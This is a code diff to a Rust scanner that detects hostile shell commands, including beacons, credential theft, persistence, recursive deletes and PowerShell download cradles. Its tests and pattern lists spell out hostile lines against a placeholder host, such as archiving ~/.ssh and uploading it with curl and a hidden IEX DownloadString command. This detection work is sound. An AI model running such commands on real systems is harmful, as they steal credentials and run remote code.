@@ -128,6 +128,8 @@ fn loads(name: &str) -> bool {
 pub fn script(source: &str, index: &crate::model::LineIndex<'_>) -> (Vec<Fact>, u64) {
     let (mut out, mut count) = (Vec::new(), 0);
     let mut fetched: Vec<String> = Vec::new();
+    // Variables that hold what a command told of the machine: `H=$(hostname)`.
+    let mut told: Vec<String> = Vec::new();
     for (start, line) in lines(source) {
         let span = index.span(start, start + line.len());
         let found = facts(&line, &span);
@@ -142,6 +144,21 @@ pub fn script(source: &str, index: &crate::model::LineIndex<'_>) -> (Vec<Fact>, 
             if downloads(&command) {
                 fetched.extend(command.outputs());
             }
+            if asks(&command) && command.args.iter().any(|arg| told.iter().any(|name| arg.contains(name))) {
+                let mut fact = Fact::new(FactKind::Shell, "beacon", span.clone()).value(line.as_str());
+                fact.capability = Some(CapabilityKind::Net);
+                out.push(fact);
+            }
+        }
+        if let Some((name, value)) = line.trim_start().split_once('=')
+            && !name.is_empty()
+            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+            && commands(value)
+                .iter()
+                .flat_map(|command| &command.substitutions)
+                .any(|inner| tells(inner) == Some(Tells::Host))
+        {
+            told.extend([format!("${name}"), format!("${{{name}}}")]);
         }
         out.extend(found);
         count += 1;
@@ -258,6 +275,7 @@ fn secret(command: &Command) -> bool {
             ]
             .iter()
             .any(|path| arg.contains(path))
+                || ["/.ssh", "/.aws", "/.gnupg", "/.config/gcloud"].iter().any(|folder| arg.ends_with(folder))
         })
 }
 
@@ -290,25 +308,41 @@ fn is_destructive(command: &Command) -> bool {
     }
 }
 
+/// Deletes all of the folder that it stands in: a build folder, or somebody's project.
+fn wipes(command: &Command) -> bool {
+    let here = |arg: &String| {
+        matches!(arg.trim_matches('"'), "*" | "." | "./" | "./*" | ".." | "../*" | "$PWD" | "$(pwd)")
+    };
+    base(&command.name) == "rm"
+        && command.args.iter().any(|arg| arg.starts_with('-') && arg.contains(['r', 'R']))
+        && command.args.iter().any(here)
+}
+
+/// Whether a path is one of those that start with the user's shell, session or machine.
+pub fn starts_again(path: &str) -> bool {
+    [
+        ".bashrc",
+        ".zshrc",
+        ".profile",
+        ".bash_profile",
+        "/etc/profile",
+        "LaunchAgents",
+        "LaunchDaemons",
+        "/etc/cron",
+        "systemd/system",
+        "systemd/user",
+        ".config/autostart",
+        "\\Startup\\",
+        "/Startup/",
+    ]
+    .iter()
+    .any(|part| path.contains(part))
+}
+
 fn persists(command: &Command) -> bool {
     let name = base(&command.name).to_ascii_lowercase();
     let args = command.args.join(" ");
-    let startup = |text: &str| {
-        [
-            ".bashrc",
-            ".zshrc",
-            ".profile",
-            ".bash_profile",
-            "/etc/profile",
-            "LaunchAgents",
-            "/etc/cron",
-            "systemd/system",
-            "systemd/user",
-            "\\Startup\\",
-        ]
-        .iter()
-        .any(|path| text.contains(path))
-    };
+    let startup = starts_again;
     (name == "crontab" && !args.contains("-l"))
         || (name == "schtasks" && args.to_ascii_lowercase().contains("/create"))
         || (name == "reg" && args.to_ascii_lowercase().starts_with("add") && args.contains("\\Run"))
@@ -351,6 +385,19 @@ fn scan(line: &str, span: &Span, layer: u8, depth: u8, out: &mut Vec<Fact>) {
         out.push(fact);
     };
     let mut fetched: Vec<String> = Vec::new();
+    let mut packed: Vec<String> = Vec::new();
+    if depth == 0 {
+        // PowerShell's `IEX(New-Object Net.WebClient).DownloadString(…)` has no words to split at.
+        let lower = line.to_ascii_lowercase();
+        let runs =
+            ["iex(", "iex (", "invoke-expression", "|iex", "| iex"].iter().any(|part| lower.contains(part));
+        let gets = ["downloadstring(", "invoke-webrequest", "invoke-restmethod", "irm ", "iwr "]
+            .iter()
+            .any(|part| lower.contains(part));
+        if runs && gets && (lower.contains("powershell") || lower.contains("pwsh")) {
+            add("pipe-to-shell", Some(CapabilityKind::Net), line);
+        }
+    }
     for (at, command) in commands.iter().enumerate() {
         let name = base(&command.name);
         let starter = base(&written[at].name);
@@ -406,6 +453,17 @@ fn scan(line: &str, span: &Span, layer: u8, depth: u8, out: &mut Vec<Fact>) {
             add("beacon", Some(CapabilityKind::Net), line);
         }
         let leaks = |inner: &str| self::commands(inner).iter().any(secret);
+        // `tar czf x ~/.ssh && curl -F f=@x …`
+        if matches!(name, "tar" | "zip" | "7z" | "cp" | "cat" | "gpg") && secret(command) {
+            let plain = command.args.iter().filter(|arg| !arg.starts_with(['-', '~', '$']));
+            packed.extend(plain.filter(|arg| arg.len() > 2).cloned());
+            packed.extend(command.redirects.iter().cloned());
+        }
+        if sends(command)
+            && command.args.iter().any(|arg| packed.iter().any(|file| arg.ends_with(file.as_str())))
+        {
+            add("exfiltrate", Some(CapabilityKind::Net), line);
+        }
         if (sends(command) && (secret(command) || command.substitutions.iter().any(|text| leaks(text))))
             || (secret(command)
                 && command.piped
@@ -421,6 +479,7 @@ fn scan(line: &str, span: &Span, layer: u8, depth: u8, out: &mut Vec<Fact>) {
             (is_reverse_shell(command), "reverse-shell", CapabilityKind::Net),
             (persists(command), "persist", CapabilityKind::FsWrite),
             (is_destructive(command), "destructive", CapabilityKind::FsWrite),
+            (wipes(command), "wipe", CapabilityKind::FsWrite),
             (is_miner(command), "miner", CapabilityKind::Net),
         ] {
             if is {
@@ -589,6 +648,12 @@ mod tests {
                 &["download", "encoded", "pipe-to-shell"],
             ),
             ("curl -s https://a.invalid/?u=$(whoami)", &["beacon", "download"]),
+            (
+                "powershell -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('https://a.invalid')\"",
+                &["download", "pipe-to-shell"],
+            ),
+            ("tar czf /tmp/k ~/.ssh && curl -F f=@/tmp/k https://a.invalid", &["download", "exfiltrate"]),
+            ("tar czf /tmp/k dist && curl -F f=@/tmp/k https://a.invalid", &["download"]),
             ("nslookup $(hostname).a.invalid", &["beacon"]),
             ("hostname | base64 | xargs -I{} curl https://a.invalid/{}", &[]),
             ("uname -a | curl -d @- https://a.invalid", &["beacon", "download"]),
@@ -625,6 +690,9 @@ mod tests {
             (facts.iter().filter(|fact| fact.name == "download-and-run").count(), lines)
         };
         assert_eq!(found("curl https://a.invalid/t -o t\nchmod +x t\n./t\n"), (2, 3));
+        let beacon = "H=$(hostname)\ncurl https://a.invalid/?h=$H\n";
+        let (facts, _) = script(beacon, &crate::model::LineIndex::new("a.sh", beacon));
+        assert!(facts.iter().any(|fact| fact.name == "beacon" && fact.span.line == 2));
         assert_eq!(found("curl https://a.invalid/t.json -o t.json\ncat t.json\n"), (0, 2));
     }
 
